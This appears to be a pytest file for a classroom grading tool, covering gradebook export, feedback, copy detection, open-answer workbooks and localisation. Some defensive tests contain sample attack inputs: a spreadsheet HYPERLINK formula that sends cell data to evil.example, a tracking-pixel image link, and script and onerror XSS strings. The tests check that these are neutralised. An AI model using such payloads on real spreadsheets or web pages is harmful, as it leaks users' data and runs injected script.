"""The gradebook: per-student replacement, CSV for the LMS, feedback without expected values,
class statistics, open answers exported to xlsx and merged back, copy detection, the CLI."""
from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import nbformat
import pytest
from openpyxl import load_workbook

from labkit.cli import main
from labkit.errors import LabkitError
from labkit.grading.encoder import encode
from labkit.grading.feedback import feedback_text
from labkit.grading.flags import flag_copies
from labkit.grading.gradebook import (
    COLUMNS,
    Row,
    all_rows,
    class_statistics,
    connect,
    export,
    record,
)
from labkit.grading.open_answers import FIRST_ROW, export_open, merge_open
from labkit.grading.release import default_masters
from labkit.grading.submission import Outcome, Submission
from labkit.i18n import _, using_language

pytestmark = pytest.mark.slow


def _rows(student: str, scores: dict[str, float], exercise: str = "quiz") -> list[Row]:
    return [Row(student, exercise, q, s, 1.0, "correct" if s else "incorrect", "ok" if s else "not the right option(s)")
            for q, s in scores.items()]


def test_regrading_one_student_leaves_the_others_alone(tmp_path: Path) -> None:
    db = connect(tmp_path)
    record(db, "s1", "quiz", _rows("s1", {"sc01": 1, "sc02": 0}))
    record(db, "s2", "quiz", _rows("s2", {"sc01": 0, "sc02": 0}))
    record(db, "s1", "lab", _rows("s1", {"q1": 1}, "lab"))
    before = [r for r in all_rows(db) if r.student_id == "s2" or r.exercise == "lab"]
    record(db, "s1", "quiz", _rows("s1", {"sc01": 1, "sc02": 1}))
    after = all_rows(db)
    assert [r for r in after if r.student_id == "s2" or r.exercise == "lab"] == before
    assert sorted(r.score for r in after if r.student_id == "s1" and r.exercise == "quiz") == [1, 1]


def test_csv_stats_and_feedback(tmp_path: Path) -> None:
    db = connect(tmp_path)
    record(db, "s1", "quiz", _rows("s1", {"sc01": 1, "sc02": 0}))
    record(db, "s2", "quiz", _rows("s2", {"sc01": 1, "sc02": 0}))
    record(db, "s3", "quiz", _rows("s3", {"sc01": 0, "sc02": 1}))
    export(db, tmp_path)
    with (tmp_path / "gradebook.csv").open(encoding="utf-8-sig") as handle:
        table = list(csv.DictReader(handle))
    assert list(table[0]) == COLUMNS == ["student_id", "exercise", "question", "score", "max_score", "status", "message"]
    assert len(table) == 6
    stats = class_statistics(all_rows(db))
    assert stats.iloc[0]["question"] == "sc02"  # hardest first: 1 of 3 got it
    assert stats.iloc[0]["missed_by"] == "s1;s2"
    assert stats.iloc[0]["full_marks_share"] == pytest.approx(1 / 3)
    text = (tmp_path / "feedback" / "s1.md").read_text(encoding="utf-8")
    assert "quiz: 1 / 2" in text and "s2" not in text


def test_feedback_of_a_graded_batch_has_no_expected_values(tmp_path: Path) -> None:
    """Grade a wrong lab submission for real and look for the expected numbers in its feedback."""
    import labkit
    from labkit.grading.grade import grade
    from labkit.grading.reference import lab1_classification as lab1

    masters = tmp_path / "masters"
    masters.mkdir()
    shutil.copy(default_masters() / "lab1_classification.ipynb", masters)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("q1_answer = 1\nq4_answer = 0.123456")]
    (tmp_path / "subs" / "s7").mkdir(parents=True)
    nbformat.write(nb, tmp_path / "subs" / "s7" / "lab1_classification.ipynb")
    grade(tmp_path / "subs", tmp_path / "out", masters, workers=1, progress=False)
    world = labkit.load_world(student_id="s7")
    secret_count, secret_share = lab1.expected("q1", world), lab1.expected("q4", world)
    text = (tmp_path / "out" / "feedback" / "s7.md").read_text(encoding="utf-8")
    assert "q1" in text and "not_answered" not in text
    assert str(secret_count) not in text and f"{secret_share:.3f}"[1:] not in text
    assert "verify" not in text and "HIDDEN" not in text


def _outcome(student: str, answer, expected) -> Outcome:
    sub = Submission(student, "lab1_classification", Path(f"{student}.ipynb"))
    rows = [Row(student, sub.exercise, "q1", 1.0 if answer == expected else 0.0, 1.0,
                "correct" if answer == expected else "incorrect", "x")]
    return Outcome(sub, rows, answers={"q1": encode(answer)}, expected={"q1": encode(expected)})


def test_copy_detection_flags_answers_from_another_world() -> None:
    outcomes = [_outcome("s1", 120, 120), _outcome("s2", 120, 131), _outcome("s3", 99, 140)]
    notes = flag_copies(outcomes, {"lab1_classification": {"q1": {"type": "number"}}})
    s1, s2, s3 = (o.rows[0] for o in outcomes)
    assert s1.status == "correct" and s3.status == "incorrect"
    assert s2.status == "flagged" and s2.score == 0.0
    assert "s1" not in s2.message and "another student's world" in s2.message  # the copier never learns whose
    assert notes == ["s2 lab1_classification q1: the answer is right for the world of s1"]  # the instructor does


def _graded_open_answers(tmp_path: Path) -> Path:
    results = tmp_path / "out"
    db = connect(results)
    for student in ("s1", "s2"):
        rows = [Row(student, "quiz", "sa01", 0.0, 6.0, "pending_review", "your instructor scores this answer")]
        record(db, student, "quiz", rows, {"sa01": f"answer of {student}: 展前、展中、展后全程沟通"})
    export(db, results)
    db.close()
    return results


def test_open_answers_round_trip_through_a_workbook(tmp_path: Path) -> None:
    results = _graded_open_answers(tmp_path)
    book = export_open(results, tmp_path / "open.xlsx", default_masters())
    wb = load_workbook(book)
    assert "quiz.sa01" in wb.sheetnames and "quiz.case01" in wb.sheetnames
    ws = wb["quiz.sa01"]
    assert "before, during and after the show" in ws["B3"].value and ws["B2"].value == 6  # the instructor's language
    assert ws.cell(row=FIRST_ROW, column=1).value == "s1"
    ws.cell(row=FIRST_ROW, column=3, value=4)
    ws.cell(row=FIRST_ROW, column=4, value="two of three points")
    wb.save(book)
    assert merge_open(results, book, default_masters()) == 1
    with (results / "gradebook.csv").open(encoding="utf-8-sig") as handle:
        table = {r["student_id"]: r for r in csv.DictReader(handle)}
    assert table["s1"]["score"] == "4.0" and table["s1"]["status"] == "reviewed"
    assert table["s2"]["status"] == "pending_review"


def test_merge_refuses_out_of_range_scores_and_writes_nothing(tmp_path: Path) -> None:
    results = _graded_open_answers(tmp_path)
    book = export_open(results, tmp_path / "open.xlsx", default_masters())
    wb = load_workbook(book)
    wb["quiz.sa01"].cell(row=FIRST_ROW, column=3, value=2)
    wb["quiz.sa01"].cell(row=FIRST_ROW + 1, column=3, value=7)
    wb.save(book)
    before = (results / "gradebook.csv").read_text(encoding="utf-8")
    with pytest.raises(LabkitError, match="outside 0..6"):
        merge_open(results, book, default_masters())
    assert (results / "gradebook.csv").read_text(encoding="utf-8") == before


def test_cli_release_and_one_line_errors(tmp_path: Path, capsys) -> None:
    assert main(["release", "--out", str(tmp_path / "rel")]) == 0
    assert {p.name for p in (tmp_path / "rel").iterdir()} == {p.name for p in default_masters().glob("*.ipynb")}
    assert main(["grade", str(tmp_path / "missing"), "--out", str(tmp_path / "r"), "--quiet"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "is not a folder of submissions" in err


def test_cli_regrades_one_student_only(tmp_path: Path) -> None:
    subs = tmp_path / "subs"
    for student, answer in {"s1": "B", "s2": "A"}.items():
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell(f'sc01_answer = "{answer}"')]
        (subs / student).mkdir(parents=True)
        nbformat.write(nb, subs / student / "quiz.ipynb")
    out = tmp_path / "out"
    assert main(["grade", str(subs), "--out", str(out), "--workers", "2", "--quiet"]) == 0
    db = connect(out)
    before = [r for r in all_rows(db) if r.student_id == "s2"]
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell('sc01_answer = "D"')]
    nbformat.write(nb, subs / "s1" / "quiz.ipynb")
    nbformat.write(nb, subs / "s2" / "quiz.ipynb")  # changed too, but not re-graded
    assert main(["grade", str(subs), "--out", str(out), "--student", "s1", "--quiet"]) == 0
    after = all_rows(db)
    assert [r for r in after if r.student_id == "s2"] == before
    assert [r.status for r in after if r.student_id == "s1" and r.question == "sc01"] == ["incorrect"]


FORMULA = '=HYPERLINK("http://evil.example/?" & B7, "click")'


def test_an_answer_starting_with_equals_stays_text_in_the_workbook(tmp_path: Path) -> None:
    results = tmp_path / "out"
    db = connect(results)
    record(db, "s1", "quiz", [Row("s1", "quiz", "sa01", 0.0, 6.0, "pending_review", "waiting")], {"sa01": FORMULA})
    db.close()
    book = export_open(results, tmp_path / "open.xlsx", default_masters())
    cell = load_workbook(book)["quiz.sa01"].cell(row=FIRST_ROW, column=2)
    assert cell.data_type == "s" and cell.value == FORMULA


def test_gradebook_csv_has_a_bom_and_no_formulas(tmp_path: Path) -> None:
    db = connect(tmp_path)
    record(db, "s1", "quiz", [Row("s1", "quiz", "sc01", 0.0, 1.0, "incorrect", FORMULA)])
    export(db, tmp_path)
    raw = (tmp_path / "gradebook.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with (tmp_path / "gradebook.csv").open(encoding="utf-8-sig") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["message"] == "'" + FORMULA and row["score"] == "0.0"


def test_markdown_in_a_message_cannot_forge_the_feedback() -> None:
    forged = "ZeroDivisionError\n\n## quiz: 16 / 16\n\n![pixel](http://evil.example/p.png) <img src=x onerror=alert(1)>"
    text = feedback_text("s1", [Row("s1", "quiz", "(notebook)", 0.0, 0.0, "warning", forged),
                                Row("s1", "quiz", "sc01", 0.0, 1.0, "incorrect", "x")])
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert headings == ["# Feedback for s1", "## quiz: 0 / 1"]
    [line] = [line for line in text.splitlines() if "ZeroDivisionError" in line]
    message = line.split(": ", 1)[1]
    assert re.search(r"(?<!\\)[!\[\]()<>#*_`]", message) is None, message  # every mark-up character escaped
    assert "not proof and not a guarantee" in text


def test_html_feedback_is_escaped_and_in_the_notebooks_language(tmp_path: Path) -> None:
    """Feedback as HTML too, in the language of the handed-in notebook; nothing from a submission runs."""
    from labkit.grading.grade import grade
    from labkit.grading.release import default_masters

    subs = tmp_path / "subs"
    for student, language, answer in (("s1", "ko_KR", "<script>alert(1)</script>"), ("s2", "zh_CN", "B")):
        nb = nbformat.v4.new_notebook()
        nb.metadata["labkit"] = {"language": language}
        nb.cells = [nbformat.v4.new_code_cell(f"sc01_answer = {answer!r}")]
        (subs / student).mkdir(parents=True)
        nbformat.write(nb, subs / student / "quiz.ipynb")
    grade(subs, tmp_path / "out", default_masters(), progress=False)
    ko = (tmp_path / "out" / "feedback" / "s1.html").read_text(encoding="utf-8")
    zh = (tmp_path / "out" / "feedback" / "s2.html").read_text(encoding="utf-8")
    assert '<html lang="ko">' in ko and '<html lang="zh-CN">' in zh
    with using_language("ko_KR"):
        assert _("Feedback for {student}").format(student="s1") in ko and _("incorrect") in ko
    with using_language("zh_CN"):
        assert _("Feedback for {student}").format(student="s2") in zh and _("correct") in zh
        assert _("Feedback for {student}").format(student="s2") in (
            tmp_path / "out" / "feedback" / "s2.md").read_text(encoding="utf-8")
    assert "<script>" not in ko and "&lt;script&gt;" in ko
    assert "s2" not in ko and "s1" not in zh


def test_gradebook_headers_are_in_the_instructors_language(tmp_path: Path) -> None:
    """gradebook.csv and class_stats.csv: 学号 ... for a Chinese instructor, the column names in en_US."""
    db = connect(tmp_path)
    record(db, "s1", "quiz", _rows("s1", {"sc01": 1, "sc02": 0}))
    with using_language("zh_CN"):
        export(db, tmp_path)
    with (tmp_path / "gradebook.csv").open(encoding="utf-8-sig") as handle:
        assert next(csv.reader(handle)) == ["学号", "练习", "题目", "得分", "满分", "状态", "说明"]
    with (tmp_path / "class_stats.csv").open(encoding="utf-8-sig") as handle:
        assert next(csv.reader(handle)) == ["练习", "题目", "满分", "学生数", "平均分", "满分比例", "未得满分的学生"]
    with using_language("ko_KR"):
        export(db, tmp_path)
    with (tmp_path / "gradebook.csv").open(encoding="utf-8-sig") as handle:
        assert next(csv.reader(handle))[0] == "학번"


@pytest.mark.parametrize("language, words", [("zh_CN", ("评分细则", "展前、展中、展后", "(2 分)")),
                                             ("ko_KR", ("채점 기준", "전시회 전, 중, 후", "(2점)"))])
def test_rubrics_are_in_the_instructors_language(tmp_path: Path, language: str, words: tuple[str, ...]) -> None:
    """The open-answer workbook's rubric, from the bank's (quiz) or the master's (labs) English, translated."""
    results = _graded_open_answers(tmp_path)
    with using_language(language):
        book = export_open(results, tmp_path / "open.xlsx", default_masters())
    wb = load_workbook(book)
    ws = wb["quiz.sa01"]
    label, rubric, points = words
    assert ws["A3"].value == label and rubric in ws["B3"].value and points in ws["B3"].value
    lab = next(wb[name] for name in wb.sheetnames if name.startswith("lab1"))
    assert "q2/q3" in lab["B3"].value and "region group" not in lab["B3"].value
